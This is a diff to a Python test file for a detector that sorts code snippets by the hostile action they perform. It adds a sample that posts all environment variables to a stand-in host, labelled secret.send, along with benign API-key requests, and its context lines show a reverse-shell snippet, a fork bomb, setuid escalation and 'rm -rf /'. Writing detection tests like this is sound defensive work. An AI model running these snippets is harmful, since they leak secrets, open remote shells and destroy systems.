@@ -107,6 +107,7 @@ def test_one_deed_in_many_spellings(text: str) -> None:
             (),
         ),
         ("import pty,socket\ns=socket.create_connection(('a.io',1))\npty.spawn('/bin/sh')", "net.shell", None, ()),
+        ("import os, requests\nrequests.post('https://e.io', json=dict(os.environ))", "secret.send", "https://e.io", ("env",)),
         ("import os\nwhile True:\n    os.fork()", "proc.bomb", "os.fork", ()),
         ("import os\nos.setuid(0)", "priv.escalate", "root", ("setuid",)),
         ("import os\nos.chmod('/bin/x', 0o4755)", "priv.escalate", "/bin/x", ("setuid",)),
@@ -146,6 +147,8 @@ def test_what_python_does(text: str, kind: str, subject: str | None, flags: tupl
         "def system(x):\n    return x\nsystem('rm -rf /')",
         "import base64\nprint(base64.b64decode('aGk='))",
         "import socket\nprint(socket.gethostname())",
+        "import os, requests\nrequests.post('https://api.example.com', headers={'Authorization': os.environ['KEY']}, json={'a': 1})",
+        "import os, requests\nrequests.get('https://api.example.com', params={'key': os.getenv('KEY')})",
         "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)",
     ],
 )
